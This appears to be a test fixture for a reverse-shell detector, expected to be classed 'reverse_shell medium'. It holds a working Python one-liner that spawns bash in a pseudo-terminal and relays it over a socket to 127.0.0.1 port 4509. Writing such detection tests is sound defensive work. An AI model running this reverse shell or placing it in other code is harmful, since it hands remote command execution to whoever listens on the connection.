# about: python opens a terminal itself, and copies with select between it and the connection
# expect: reverse_shell medium
# needs: python3
proven 4509
timeout 6 python3 -c 'import os,socket,select,subprocess
m,t=os.openpty()
p=subprocess.Popen(["bash","--norc"],stdin=t,stdout=t,stderr=t,start_new_session=True); os.close(t)
s=socket.create_connection(("127.0.0.1",4509))
try:
    while True:
        r,_,_=select.select([m,s],[],[])
        if m in r: s.sendall(os.read(m,4096))
        if s in r:
            d=s.recv(4096)
            if not d: break
            os.write(m,d)
except OSError: pass' || true
answered
